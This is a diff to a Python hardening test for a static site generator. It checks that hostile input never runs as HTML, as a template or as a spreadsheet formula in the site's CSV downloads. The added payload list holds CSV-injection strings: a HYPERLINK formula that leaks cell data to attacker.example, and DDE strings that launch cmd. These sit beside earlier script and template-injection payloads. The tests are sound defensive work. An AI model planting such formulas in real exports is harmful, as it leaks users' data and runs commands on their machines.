@@ -8,6 +8,7 @@ existing site, which must stay byte-identical. The figures are printed.
 """
 from __future__ import annotations
 
+import csv
 import os
 import shutil
 import sys
@@ -22,6 +23,7 @@ from conftest import ROOT
 from generator.cli import main
 from generator.model import INPUT_FILES
 from generator.model.docs import _kind, _models_in
+from generator.write.spreadsheet_safe import FORMULA_STARTS
 from sitebuild import build_example, site_copy, tree_digest
 
 sys.path.insert(0, str(Path(__file__).parent.parent / "corpus"))
@@ -36,6 +38,11 @@ PAYLOADS = [
     "a | b | <b>bold</b> | c",
     "{{ 7*7 }} {% if true %}jinja{% endif %} ${x}",
     '<a href="javascript:window.__pwned=1">link</a>',
+    # Formulas, which a spreadsheet would run from a CSV download (OWASP's CSV injection).
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C notepad'!A0",
+    "-2+3+cmd|' /C calc'!A0",
 ]
 TEXT_KINDS = {"text", "one line of text", "list of text", "list of one line of text"}
 
@@ -148,10 +155,33 @@ def test_hostile_text_shows_as_text_and_never_runs(hostile_site, executed):
     assert "&lt;script&gt;window.__pwned=1" in home or "&#60;script&#62;" in home
 
 
+def formulas(site: Path) -> tuple[int, list[str]]:
+    """Cells of the site's CSV downloads that a spreadsheet would run as formulas."""
+    files = sorted(site.rglob("*.csv"))
+    found = [f"{path.relative_to(site)}: {cell[:40]}" for path in files
+             for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines())
+             for cell in row if cell.startswith(FORMULA_STARTS)]
+    return len(files), found
+
+
+def test_the_formula_check_can_fail(tmp_path):
+    (tmp_path / "a.csv").write_text('title,note\n=1+1,"@SUM(A1)"\nok,fine\n')
+    assert formulas(tmp_path) == (1, ["a.csv: =1+1", "a.csv: @SUM(A1)"])
+
+
+def test_hostile_text_never_becomes_a_formula_in_a_download(hostile_site):
+    site, _ = hostile_site
+    files, found = formulas(site)
+    assert files >= 4  # the plan, the measures, each measure's figures, the feedback
+    assert found == []
+    assert "'=HYPERLINK(" in (site / next(p.relative_to(site).as_posix() for p in site.rglob("*.csv")
+                                          if "HYPERLINK" in p.read_text())).read_text()
+
+
 @pytest.fixture(scope="module")
-def corpus_builds(tmp_path_factory) -> tuple[int, int, int]:
+def corpus_builds(tmp_path_factory) -> tuple[int, int, int, dict[str, int]]:
     """Every corpus case through `progress-pages build` over an existing good site:
-    (cases tried, tracebacks, sites changed)."""
+    (cases tried, tracebacks, sites changed, cases of each class)."""
     from test_corpus import BASE
 
     root = site_copy(tmp_path_factory.mktemp("corpus"))
@@ -175,20 +205,26 @@ def corpus_builds(tmp_path_factory) -> tuple[int, int, int]:
                 changed += 1
     finally:
         os.chdir(old)
-    return len(CASES), tracebacks, changed
+    kinds: dict[str, int] = {}
+    for case in CASES:
+        kinds[case.kind] = kinds.get(case.kind, 0) + 1
+    return len(CASES), tracebacks, changed, kinds
 
 
 def test_no_bad_input_publishes_anything_or_crashes(corpus_builds):
-    tried, tracebacks, changed = corpus_builds
+    tried, tracebacks, changed, _ = corpus_builds
     assert tried >= 60
     assert tracebacks == 0
     assert changed == 0
 
 
-def test_figures(corpus_builds, executed, capsys):
-    tried, tracebacks, changed = corpus_builds
-    _, ran, _ = executed
+def test_figures(corpus_builds, executed, hostile_site, capsys):
+    tried, tracebacks, changed, kinds = corpus_builds
+    pages, ran, _ = executed
+    downloads, found = formulas(hostile_site[0])
+    classes = ", ".join(f"{n} {k}" for k, n in kinds.items())
     with capsys.disabled():
-        print(f"\nhardening: {tried} bad inputs tried, {tracebacks} tracebacks, {ran} injections "
-              f"executed, {changed} partial sites published")
-    assert (tracebacks, ran, changed) == (0, 0, 0)
+        print(f"\nhardening: {tried} bad inputs tried ({classes}), {tracebacks} tracebacks, "
+              f"{ran} injections executed in {pages} pages, {len(found)} formulas in {downloads} CSV "
+              f"downloads, {changed} partial sites published")
+    assert (tracebacks, ran, len(found), changed) == (0, 0, 0, 0)
